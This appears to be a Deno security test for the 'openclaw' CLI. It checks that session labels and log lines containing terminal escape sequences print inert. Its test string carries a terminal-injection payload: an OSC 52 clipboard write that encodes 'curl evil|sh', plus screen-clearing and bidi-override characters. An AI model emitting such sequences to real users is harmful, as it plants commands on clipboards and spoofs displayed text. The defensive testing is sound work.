/**
 * Adversarial: text the gateway hands the CLI (a session label anyone with
 * write access set, a logged string a remote peer chose) carries terminal
 * control sequences: OSC 52 writes the operator's clipboard, CSI redraws the
 * screen, a bidi override reorders what it shows. Every `openclaw` command
 * must print it inert; `--json` stays JSON with the same data; log lines
 * keep their tabs.
 */

import assert from "node:assert/strict";
import { cliEnv, runCli, tempHome, TEST_TOKEN } from "../_helpers/gateway.ts";
import { RawWs } from "../_helpers/raw_ws.ts";
import { startAgentGateway } from "../agent/e2e/_agent_gateway.ts";
import { printableJson, terminalIo } from "../../src/cli/printable.ts";

const target = (url: string) => ["--url", url, "--token", TEST_TOKEN];
/** Clipboard write, a screen clear, an 8-bit CSI and a right-to-left override. */
const EVIL = "ok\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\u009b31m\u202Eevil";
/** What a terminal would act on (tab and newline are fine). */
// deno-lint-ignore no-control-regex -- matching control characters is the point
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

Deno.test("terminalIo() keeps tab and newline, escapes the rest, and JSON stays JSON", () => {
  const out: string[] = [];
  const io = terminalIo({ out: (t) => out.push(t), err: (t) => out.push(t) });
  io.out(`a\tb\n${EVIL}`);
  assert.equal(out[0].startsWith("a\tb\nok"), true, out[0]);
  assert.doesNotMatch(out[0], CONTROL);
  io.err(JSON.stringify({ label: EVIL }));
  assert.deepEqual(JSON.parse(out[1]), { label: EVIL });
  assert.equal(printableJson(JSON.stringify(EVIL)), out[1].slice(9, -1));
});

Deno.test("openclaw sessions and logs print a label and a log line with escape sequences inert", async () => {
  await using fx = await startAgentGateway();
  const { home, cleanup } = await tempHome();
  try {
    const env = cliEnv(home);
    const turn = await runCli(
      ["agent", "-m", "hi", "--session-key", "main", ...target(fx.gw.url)],
      env,
    );
    assert.equal(turn.code, 0, turn.stderr);
    await using ws = await RawWs.connect(fx.gw.url, { scopes: ["operator.admin"] });
    const patched = await ws.request("sessions.patch", { key: "main", label: EVIL });
    assert.equal(patched.ok, true, JSON.stringify(patched.error));

    const text = await runCli(["sessions", ...target(fx.gw.url)], env);
    assert.equal(text.code, 0, text.stderr);
    assert.match(text.stdout, /^agent:main:main .*"ok/m);
    assert.doesNotMatch(text.stdout, CONTROL, "sessions");
    const json = await runCli(["sessions", "--json", ...target(fx.gw.url)], env);
    assert.doesNotMatch(json.stdout, CONTROL, "sessions --json");
    assert.equal(JSON.parse(json.stdout).sessions[0].label, EVIL, "escaped, not dropped");

    // A line the gateway logged with a peer-chosen string in it.
    const tail = await ws.request("logs.tail", { limit: 1 });
    const file = tail.payload.file as string;
    const line = {
      time: new Date().toISOString(),
      level: "warn",
      subsystem: "ws",
      msg: `a\tb ${EVIL}`,
    };
    await Deno.writeTextFile(file, JSON.stringify(line) + "\n", { append: true });
    const logs = await runCli(["logs", "--limit", "1", ...target(fx.gw.url)], env);
    assert.equal(logs.code, 0, logs.stderr);
    assert.match(logs.stdout, /\[ws\] a\tb ok/, "the tab is kept");
    assert.doesNotMatch(logs.stdout, CONTROL, "logs");
    const raw = await runCli(["logs", "--json", "--limit", "1", ...target(fx.gw.url)], env);
    assert.doesNotMatch(raw.stdout, CONTROL, "logs --json");
    assert.equal(JSON.parse(raw.stdout.trim()).msg, `a\tb ${EVIL}`);
  } finally {
    await cleanup();
  }
});
